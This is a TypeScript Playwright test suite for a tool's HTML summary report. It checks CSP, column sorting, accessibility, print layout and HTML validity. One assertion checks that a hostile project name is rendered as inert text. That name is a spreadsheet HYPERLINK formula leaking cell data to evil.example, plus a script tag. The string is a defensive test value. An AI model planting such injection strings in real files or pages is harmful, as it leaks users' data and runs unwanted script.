import { spawnSync } from "node:child_process";
import { copyFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, expect, it } from "vitest";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { describeNeeding, hasChromium, launchChromium, seriousViolations } from "../helpers/browser.js";
import { EXAMPLES, FIXTURES, runInProcess } from "../helpers/run.js";
import { QUICK_JVM } from "../helpers/validate.js";

const VNU_JAR = createRequire(import.meta.url).resolve("vnu-jar/build/dist/vnu.jar");
const hasJava = spawnSync("java", ["-version"], { encoding: "utf8" }).status === 0;
const PORTFOLIO = join(FIXTURES, "summary-portfolio");

let dir: string;
let file: string;
/** A portfolio with text that does not break (a 300-character project name, a long file name) and movement since an earlier summary. */
let wide: string;

/** The examples and the fixture portfolio (two packs, hostile text, an invalid file) in one HTML summary. */
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "rml-assess-summary-html-"));
  file = join(dir, "summary.html");
  const r = await runInProcess(["summary", EXAMPLES, join(PORTFOLIO, "teams"), "--pack", "principles", "--pack", join(PORTFOLIO, "tiny-pack"), "--format", "html", "-o", file]);
  if (r.code !== 0) throw new Error(r.stderr);
  const teams = join(dir, "teams");
  mkdirSync(teams);
  for (const name of readdirSync(EXAMPLES).filter((f) => f.endsWith(".yaml"))) copyFileSync(join(EXAMPLES, name), join(teams, name));
  const credit = readFileSync(join(EXAMPLES, "credit-scoring.yaml"), "utf8");
  writeFileSync(join(teams, `${"long-".repeat(30)}name.yaml`), credit.replace(/^ {2}name: .*$/m, `  name: ${"Unbroken".repeat(40)}`));
  const old = await runInProcess(["summary", teams, "--format", "json", "-o", join(dir, "old.json")]);
  if (old.code !== 0) throw new Error(old.stderr);
  wide = join(dir, "wide.html");
  const w = await runInProcess(["summary", teams, "--previous", join(dir, "old.json"), "--format", "html", "-o", wide]);
  if (w.code !== 0) throw new Error(w.stderr);
});

afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describeNeeding("Chromium", hasChromium, "apt-get install -y chromium")("HTML summary in Chromium", () => {
  let browser: Browser;
  const contexts: BrowserContext[] = [];
  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(async () => {
    for (const c of contexts) await c.close();
    await browser?.close();
  });

  /** Opens the summary with its own CSP, recording console messages, page errors and requests (anything but the file is aborted). */
  async function open(opts: { javaScriptEnabled?: boolean; bypassCSP?: boolean; path?: string; width?: number } = {}): Promise<{ page: Page; seen: string[] }> {
    const url = pathToFileURL(opts.path ?? file).href;
    const context = await browser.newContext({ javaScriptEnabled: opts.javaScriptEnabled ?? true, bypassCSP: opts.bypassCSP ?? false, viewport: { width: opts.width ?? 1300, height: 900 } });
    contexts.push(context);
    const page = await context.newPage();
    const seen: string[] = [];
    page.on("console", (m) => void seen.push(`console ${m.type()}: ${m.text()}`));
    page.on("pageerror", (e) => void seen.push(`error: ${e.message}`));
    page.on("request", (r) => void (r.url() !== url && seen.push(`request: ${r.url()}`)));
    page.on("dialog", (d) => void seen.push(`dialog: ${d.message()}`));
    await context.route("**/*", (route) => (route.request().url() === url ? route.continue() : route.abort()));
    await page.goto(url, { waitUntil: "load" });
    return { page, seen };
  }

  /** The first heat map's rows, as the text of one column. */
  const column = (page: Page, heading: string) => page.evaluate((name) => {
    const table = document.querySelector("table.heatmap") as HTMLTableElement;
    const i = [...table.tHead!.rows[0]!.cells].findIndex((c) => c.textContent!.trim() === name);
    return [...table.tBodies[0]!.rows].map((r) => r.cells[i]!.textContent!.trim());
  }, heading);

  it("runs its sorting script under its own CSP (allowed by hash) and nothing else: no message, no request", async () => {
    const { page, seen } = await open();
    expect(await page.locator("table.sortable thead th button").count()).toBeGreaterThan(20);
    expect(seen).toEqual([]);
    // Any other script is refused.
    const ran = await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.__ran = true";
      document.head.append(script);
      return (window as unknown as { __ran?: boolean }).__ran ?? false;
    });
    expect(ran).toBe(false);
    expect(seen.join("\n")).toMatch(/Executing inline script violates the following Content Security Policy directive 'script-src 'sha256-/);
    // The hostile project name is text.
    expect(await page.locator("th[scope=row]").allTextContents()).toContain("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\") <script>alert(1)</script>");
  });

  it("sorts a table by any column, ascending then descending, and says so in aria-sort", async () => {
    const { page } = await open();
    const scores = (await column(page, "Score")).map((s) => Number.parseInt(s, 10));
    const score = page.locator("table.heatmap").first().locator("thead th", { hasText: /^Score/ });
    await score.locator("button").click();
    expect(await score.getAttribute("aria-sort")).toBe("ascending");
    expect((await column(page, "Score")).map((s) => Number.parseInt(s, 10))).toEqual([...scores].sort((a, b) => a - b));
    await score.locator("button").click();
    expect(await score.getAttribute("aria-sort")).toBe("descending");
    expect((await column(page, "Score")).map((s) => Number.parseInt(s, 10))).toEqual([...scores].sort((a, b) => b - a));
    const project = page.locator("table.heatmap").first().locator("thead th", { hasText: /^Project/ });
    await project.locator("button").click();
    const names = await column(page, "Project");
    expect(names).toEqual([...names].sort((a, b) => a.localeCompare(b)));
    expect(await score.getAttribute("aria-sort")).toBeNull();
  });

  it("reads the same without scripts: plain headings, every heat-map cell with its number and band word", async () => {
    const { page, seen } = await open({ javaScriptEnabled: false });
    expect(await page.locator("th button").count()).toBe(0);
    const cells = await page.locator("td.heat").allTextContents();
    expect(cells.length).toBeGreaterThan(30);
    for (const cell of cells) expect(cell).toMatch(/^\d+(\.\d)? (Initial|Developing|Established|Advanced|Leading|Low|Fair|Good|Top)$/);
    expect(seen).toEqual([]);
  });

  it("has no serious or critical accessibility violations (axe-core), before and after sorting", async () => {
    const { page } = await open({ bypassCSP: true });
    await page.locator("table.heatmap thead th button").first().click();
    expect(await seriousViolations(page)).toEqual([]);
  });

  it("prints every column, keeping the band colours", async () => {
    const { page } = await open();
    await page.emulateMedia({ media: "print" });
    const printed = await page.evaluate(() => ({
      overflow: getComputedStyle(document.querySelector(".scroll")!).overflowX,
      adjust: getComputedStyle(document.querySelector("td.heat")!).printColorAdjust,
    }));
    expect(printed).toEqual({ overflow: "visible", adjust: "exact" });
    expect((await page.pdf({ format: "A4", landscape: true })).length).toBeGreaterThan(10_000);
  });

  it("has no horizontal page overflow at 1280 px: wide tables scroll inside their own box, long words wrap", async () => {
    const { page } = await open({ path: wide, width: 1280 });
    const sizes = await page.evaluate(() => ({
      page: document.scrollingElement!.scrollWidth, viewport: innerWidth,
      table: Math.max(...[...document.querySelectorAll(".scroll")].map((s) => s.scrollWidth - s.clientWidth)),
    }));
    expect(sizes.page).toBeLessThanOrEqual(sizes.viewport);
    // The heat map is wider than the page: it is its box that scrolls.
    expect(sizes.table).toBeGreaterThan(0);
    expect(await page.locator("#high-risk").count()).toBe(1);
    expect(await page.locator("#movement").count()).toBe(1);
  });

  it("sorts from the keyboard: a column heading is a focusable button, Enter and Space sort, aria-sort says how", async () => {
    const { page } = await open({ path: wide, width: 1280 });
    const head = page.locator("table.heatmap").first().locator("thead th", { hasText: /^Project/ });
    await head.locator("button").focus();
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe("BUTTON");
    await page.keyboard.press("Enter");
    expect(await head.getAttribute("aria-sort")).toBe("ascending");
    await page.keyboard.press("Space");
    expect(await head.getAttribute("aria-sort")).toBe("descending");
  });

  it("prints on A4 landscape with each table's header repeated on every page", async () => {
    const { page } = await open({ path: wide, width: 1280 });
    await page.emulateMedia({ media: "print" });
    const printed = await page.evaluate(() => ({
      thead: getComputedStyle(document.querySelector("thead")!).display,
      page: [...document.styleSheets].flatMap((s) => [...s.cssRules]).filter((r) => r instanceof CSSPageRule).map((r) => (r as CSSPageRule).style.getPropertyValue("size").toLowerCase()),
    }));
    expect(printed).toEqual({ thead: "table-header-group", page: ["a4 landscape"] });
    const pdf = join(dir, "wide.pdf");
    writeFileSync(pdf, await page.pdf({ preferCSSPageSize: true }));
    const info = spawnSync("pdfinfo", [pdf], { encoding: "utf8" });
    expect(info.status, info.stderr).toBe(0);
    expect(info.stdout).toMatch(/Page size:\s+84[12]\.\d+ x 59[45]\.\d+ pts \(A4\)/);
  });
});

describeNeeding("Java (for the W3C Nu Html Checker)", hasJava, "apt-get install -y default-jre-headless")("HTML summary validity", () => {
  it("passes the W3C Nu Html Checker with no errors", () => {
    const r = spawnSync("java", [...QUICK_JVM, "-jar", VNU_JAR, "--errors-only", "--format", "json", file, wide], { encoding: "utf8", timeout: 120_000 });
    const messages = (JSON.parse(r.stderr) as { messages: { lastLine?: number; message: string }[] }).messages;
    expect(messages.map((m) => `${m.lastLine}: ${m.message}`)).toEqual([]);
    expect(r.status).toBe(0);
  }, 120_000);
});
